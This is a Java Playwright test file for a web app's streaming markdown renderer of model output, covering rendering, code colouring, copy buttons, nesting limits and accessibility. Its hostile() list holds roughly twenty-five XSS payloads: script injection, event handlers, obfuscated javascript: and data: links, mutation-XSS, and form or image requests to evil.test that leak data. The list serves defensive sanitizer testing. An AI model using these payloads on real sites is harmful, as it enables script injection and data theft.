package dev.runnel.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.deque.html.axecore.playwright.AxeBuilder;
import com.deque.html.axecore.results.AxeResults;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions.HasTextOptions;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

/** {@code webapp/markdown} in a browser: what a model writes, on the page. */
class MarkdownTest {

  @RegisterExtension static final Chromium CHROMIUM = new Chromium();

  private static final String HIGHLIGHTER = "/vendor/highlight/highlight.js";

  private static final String NEEDS_INPUTS =
      "SKIPPED: it needs -Dvectors=DIR with a folder that has hostile.json in it";

  /** Documents depend on it alone. */
  private static final int SEED =
      Integer.getInteger("seed", (int) (System.currentTimeMillis() % 1_000_000_000));

  private WebappFiles files;
  private Visit visit;
  private Page page;

  @SuppressWarnings("NullAway.Init") // set before each test
  MarkdownTest() {}

  @BeforeEach
  void open() throws IOException {
    files = new WebappFiles();
    visit = CHROMIUM.visit(View.USUAL);
    page = visit.open(files.page());
  }

  @AfterEach
  void close() {
    visit.close();
    files.close();
  }

  private Object with(String expression, @Nullable Object argument) {
    return page.evaluate(
        "async (it) => { const m = await import('/test/markdown-browser.js'); return "
            + expression
            + "; }",
        argument);
  }

  private void show(String text) {
    with("(globalThis.last = m.fresh()).markdown.update(it)", text);
  }

  private void end(String text) {
    with("globalThis.last.markdown.update(it, { ended: true })", text);
  }

  private Locator role(AriaRole role, String name) {
    return page.getByRole(role, new Page.GetByRoleOptions().setName(name));
  }

  @Test
  void showsEachKindOfBlock() {
    String text =
        """
        # Plan

        First **bold**, *soft*, ~~gone~~ and `code`.

        1. one
        2. two
           - [x] done
           - [ ] open

        > said

        | name | what |
        |---|:-:|
        | a | b<br>c |

        ---

        [site](https://a.test/ "its title") ![a picture](https://evil.test/i.png)
        """;
    show(text);
    end(text);
    assertThat(page.getByRole(AriaRole.HEADING, level(3))).hasText("Plan");
    assertThat(page.locator("strong")).hasText("bold");
    assertThat(page.locator("ol > li")).hasCount(2);
    assertThat(page.locator(".task").first()).hasText("☑ done");
    assertThat(page.locator("blockquote")).hasText("said");
    assertThat(role(AriaRole.REGION, "name, what").getByRole(AriaRole.TABLE)).isVisible();
    assertThat(page.locator("td br")).hasCount(1);
    assertThat(role(AriaRole.LINK, "site")).hasAttribute("href", "https://a.test/");
    assertThat(role(AriaRole.LINK, "site")).hasAttribute("rel", "noopener noreferrer");
    assertThat(role(AriaRole.LINK, "a picture")).hasAttribute("href", "https://evil.test/i.png");
    assertThat((List<?>) with("m.strangers(document.querySelector('main'))", null)).isEmpty();
    visit.assertNoFaults();
  }

  private static Page.GetByRoleOptions level(int level) {
    return new Page.GetByRoleOptions().setLevel(level);
  }

  @Test
  void showsWhatIsOpenAsItWillProbablyBe() {
    show("这是**重点");
    assertThat(page.locator("strong")).hasText("重点");
    show("See [the page](https://a.te");
    assertThat(page.locator("main")).hasText("See the page");
    show("Text:\n-");
    assertThat(page.locator("main")).hasText("Text:");
    show("```js\nlet a");
    assertThat(page.locator("pre code")).hasText("let a");
  }

  @Test
  void looksTheSameHoweverItIsCut() {
    assertThat((List<?>) with("m.differences(it, 200)", SEED)).as("-Dseed=" + SEED).isEmpty();
    visit.assertNoFaults();
  }

  @Test
  void startsAnewWithAnotherText() {
    show("one **two**");
    with("globalThis.last.markdown.update(it)", "three");
    assertThat(page.locator("main")).hasText("three");
    end("three");
    with("globalThis.last.markdown.update(it)", "three and four");
    assertThat(page.locator("main")).hasText("three and four");
  }

  /** What an end of a line or of the text may be in the middle of. */
  @Test
  void readsEveryEndOfLine() {
    show("a\r");
    with("globalThis.last.markdown.update(it)", "a\r\n\r\n- b\rc\0d");
    end("a\r\n\r\n- b\rc\0d");
    assertThat(page.locator("main p").first()).hasText("a");
    assertThat(page.locator("li"))
        .hasText("b\nc\uFFFDd", new HasTextOptions().setUseInnerText(true));
  }

  @ParameterizedTest
  @CsvSource({
    "prose, main > div > *, 4",
    "list, li, 4",
    "table, tr, 4",
    "code, .code-piece, 1",
    "paragraph, main > div > p, 4",
  })
  void drawsEachPartOnceAndTheLastOneAgain(String kind, String selector, int timesDrawn) {
    List<?> counts =
        (List<?>)
            with(
                "(() => { const { elements, added, replaced, kept } ="
                    + " m.workOn(it[0], 20_000, 2_500, it[1]);"
                    + " return [elements, added, replaced, kept]; })()",
                List.of(kind, selector));
    long elements = number(counts.get(0));
    long added = number(counts.get(1));
    assertThat(number(counts.get(2))).as("nodes of finished parts that were replaced").isZero();
    // In 2,500 pieces each part is written in about ten.
    assertThat(added).as("elements drawn for " + elements).isLessThan(elements * 10 * timesDrawn);
    visit.assertNoFaults();
  }

  private static long number(Object value) {
    return ((Number) value).longValue();
  }

  @Test
  void coloursCodeWhenItIsFinishedAndLoadsTheColoursForThatAlone() {
    show("Text and\n\n```unknown\nlet a = 1;\n```\n\n```js\nlet a");
    assertThat(page.locator("pre").last()).hasText("let a");
    assertThat(files.asked()).doesNotContain(HIGHLIGHTER);
    end("Text and\n\n```unknown\nlet a = 1;\n```\n\n```js\nlet a = '<b>';\n```\n");
    assertThat(page.locator(".code-keyword")).hasText("let");
    assertThat(page.locator(".code-string")).hasText("'<b>'");
    assertThat(page.locator("pre").last()).hasText("let a = '<b>';");
    assertThat(files.asked()).contains(HIGHLIGHTER);
    assertThat((List<?>) with("m.strangers(document.querySelector('main'))", null)).isEmpty();
    visit.assertNoFaults();
  }

  @Test
  void leavesLongCodeWithoutColours() {
    String text = "```js\n" + "let a = 1;\n".repeat(2_000) + "```\n\n```js\nlet b\n```\n";
    show(text);
    end(text);
    assertThat(page.locator("pre").last().locator(".code-keyword")).hasText("let");
    assertThat(page.locator("pre").first().locator(".code-keyword")).hasCount(0);
  }

  @Test
  void copiesCodeAsItIsWritten() {
    page.context().grantPermissions(List.of("clipboard-read", "clipboard-write"));
    String text = "```js\nlet a = 1;\n\tif (a) b();\n```\n";
    show(text);
    end(text);
    page.locator(".code-keyword").first().waitFor();
    role(AriaRole.BUTTON, "Copy it").click();
    assertThat(role(AriaRole.BUTTON, "Copied it")).isVisible();
    assertThat(page.evaluate("navigator.clipboard.readText()"))
        .isEqualTo("let a = 1;\n\tif (a) b();");
    visit.assertNoFaults();
  }

  @Test
  void copiesWhereThereIsNoClipboardForScripts() {
    page.context().grantPermissions(List.of("clipboard-read"));
    show("```\nlet a\n```\n");
    page.evaluate(
        "() => { globalThis.clipboard = navigator.clipboard;"
            + " Object.defineProperty(navigator, 'clipboard', { value: undefined }); }");
    role(AriaRole.BUTTON, "Copy it").click();
    assertThat(role(AriaRole.BUTTON, "Copied it")).isFocused();
    assertThat(page.evaluate("globalThis.clipboard.readText()")).isEqualTo("let a");
    visit.assertNoFaults();
  }

  @Test
  void changesTheWordsOfItsButtons() {
    show("```\nlet a\n```\n");
    with("globalThis.last.markdown.texts = it", Map.of("copy", "复制", "copied", "已复制"));
    assertThat(role(AriaRole.BUTTON, "复制")).isVisible();
  }

  static Stream<String> hostile() {
    return Stream.of(
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <svg/onload=alert(1)> b",
        "[x](javascript:alert(1))",
        "[x](JaVa\tScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x] [y][x]",
        "<javascript:alert(1)>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x](https://evil.test/?q=secret)",
        "![x](https://evil.test/ \"onerror=alert(1)\")",
        "[a](https://a.test/ \"' onmouseover=alert(1)\")",
        "[a](https://a.test/%22onmouseover=alert(1))",
        "`<b>`\n\n    <i>code</i>\n\n```<u>\n<script>alert(1)</script>\n```",
        "```html\n<script>alert(1)</script>\n```",
        "| <b>a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <br onclick=alert(1)> |",
        "# <h1 onclick=alert(1)>\n> <iframe src=https://evil.test/>\n- <style>*{display:none}</style>",
        "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
        "<form action=https://evil.test><input name=p><base href=https://evil.test>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        "a\0b <\0script>alert(1)</script>",
        "\u202Eevil\u202C [\u202Etset.live//:sptth](https://a.test/)");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void runsAndLoadsNothingOfAText(String text) {
    assertThat((List<?>) with("m.strangersAtEveryCut(it)", text)).isEmpty();
    assertThat(files.asked()).allMatch(path -> path.matches("/|/favicon.svg|/.*\\.(?:js|css)"));
    visit.assertNoFaults();
  }

  /** The inputs of a folder of one's own, {@code -Dvectors}: those that are texts of models. */
  @Test
  void runsNothingOfTheHostileInputsOfAFolder() throws IOException {
    Path inputs = Path.of(System.getProperty("vectors", ""), "hostile.json");
    boolean there = Files.exists(inputs);
    if (!there) {
      // Aloud: a report of skipped tests does not say why.
      System.out.println(NEEDS_INPUTS);
    }
    assumeTrue(there, NEEDS_INPUTS);
    List<String> texts = new ArrayList<>();
    for (JsonNode input : new ObjectMapper().readTree(Files.readString(inputs)).path("cases")) {
      if (input.path("context").asString().startsWith("model delta text")) {
        byte[] text = Base64.getDecoder().decode(input.required("bytes_b64").asString());
        texts.add(new String(text, StandardCharsets.UTF_8));
      }
    }
    assertThat(texts).isNotEmpty();
    for (String text : texts) {
      assertThat((List<?>) with("m.strangersAtEveryCut(it)", text)).as(text).isEmpty();
    }
    visit.assertNoFaults();
  }

  @Test
  void nestsNoDeeperThanItMay() {
    show(">".repeat(10_000) + " deep");
    assertThat(with("m.depthOf('blockquote')", null)).isEqualTo(8);
    show("- ".repeat(10_000) + "deep");
    assertThat(with("m.depthOf('ul')", null)).isEqualTo(8);
    visit.assertNoFaults();
  }

  @Test
  void showsWhatIsBeyondItsLimitAsItIs() {
    int limit = 262_144;
    String text = "a **b**\n\n".repeat(limit / 9 + 1);
    show(text);
    end(text + "**c**");
    assertThat(page.locator("main .as-written")).containsText("**c**");
    assertThat(page.locator("main strong").last()).hasText("b");
    visit.assertNoFaults();
  }

  @ParameterizedTest
  @EnumSource(
      value = ColorScheme.class,
      names = {"LIGHT", "DARK"})
  void canBeReadByEverybody(ColorScheme scheme) {
    String text =
        """
        ## Part

        See [it](https://a.test/).

        > said

        | a | b |
        |---|---|
        | 1 | 2 |

        ```java
        // why
        @Test void a() { int b = 1; String c = "d"; }
        ```
        ```diff
        - a
        + b
        ```

        - [x] done
        """;
    try (Visit plain = CHROMIUM.visitWithoutPolicy(View.USUAL.in(scheme))) {
      page = plain.open(files.page());
      show(text);
      end(text);
      page.locator(".code-keyword").first().waitFor();
      AxeResults results =
          new AxeBuilder(page)
              .withTags(List.of("wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"))
              .analyze();
      assertThat(results.getViolations()).isEmpty();
    }
  }
}
